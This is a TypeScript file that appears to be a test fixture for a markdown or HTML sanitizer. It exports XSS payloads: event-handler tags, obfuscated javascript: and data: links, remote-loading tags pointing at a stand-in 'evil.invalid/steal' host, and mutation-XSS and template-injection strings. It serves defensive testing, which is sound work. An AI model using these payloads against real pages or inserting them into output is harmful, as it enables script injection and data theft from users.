/** Texts that try to run a script, load something from elsewhere, or look like another place. */
const MARK = "window.__ran=(window.__ran||0)+1";
const AWAY = "http://evil.invalid/steal";

const HANDLERS = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onbegin",
  "onanimationstart",
];
const ELEMENTS = [
  "img",
  "svg",
  "body",
  "video",
  "audio",
  "iframe",
  "object",
  "embed",
  "details open",
  "input autofocus",
  "marquee",
  "math",
  "select autofocus",
];

const withHandlers = ELEMENTS.flatMap((element) =>
  HANDLERS.map((handler) => `<${element} src=x ${handler}="${MARK}">`),
);

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java&#10;script:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,",
  "data:image/svg+xml,",
  "blob:",
  "file:///",
  "//evil.invalid/",
  "view-source:javascript:",
];

const links = SCHEMES.flatMap((scheme) => [
  `[click](${scheme}${MARK})`,
  `[click](<${scheme}${MARK}>)`,
  `<${scheme}${MARK}>`,
  `![picture](${scheme}${MARK})`,
  `[click][r]\n\n[r]: ${scheme}${MARK}`,
]);

const LOADING = [
  `![a](${AWAY}?q=1)`,
  `![a][r]\n\n[r]: ${AWAY}`,
  `[![a](${AWAY})](${AWAY})`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<style>@import url(${AWAY})</style>`,
  `<div style="background:url(${AWAY})">`,
  `<iframe src=${AWAY}></iframe>`,
  `<video poster=${AWAY}></video>`,
  `<audio src=${AWAY} autoplay>`,
  `<object data=${AWAY}>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action=${AWAY}><button>go</button></form>`,
  `<svg><image href=${AWAY} /></svg>`,
  `<img srcset="${AWAY} 2x">`,
  `<picture><source srcset=${AWAY}></picture>`,
  `<script src=${AWAY}></script>`,
  `<a ping=${AWAY} href=#>x</a>`,
];

const MIXED = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<SCRIPT>${MARK}</SCRIPT>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `\`\`\`html\n<script>${MARK}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${MARK}>\ncode\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${MARK}> |`,
  `# <img src=x onerror=${MARK}>`,
  `- [ ] <img src=x onerror=${MARK}>`,
  `> <svg/onload=${MARK}>`,
  `[<img src=x onerror=${MARK}>](https://example.org)`,
  `**<img src=x onerror=${MARK}>**`,
  `\`<img src=x onerror=${MARK}>\``,
  `&lt;img src=x onerror=${MARK}&gt;`,
  `<!--><img src=x onerror=${MARK}>-->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><script>${MARK}</script></template>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `<img src="data:image/svg+xml,<svg onload=${MARK}>">`,
  `"><img src=x onerror=${MARK}>`,
  `'-${MARK}-'`,
  `__proto__`,
  `<a href="javascript:${MARK}">x</a>`,
  `<a href="https://example.org" onclick="${MARK}">x</a>`,
  `![x](data:image/png;base64,AAAA" onerror="${MARK})`,
  `[a](https://example.org "title" onclick="${MARK}")`,
  `https://example.org/"onmouseover="${MARK}`,
];

export const PAYLOADS: readonly string[] = [...withHandlers, ...links, ...LOADING, ...MIXED];
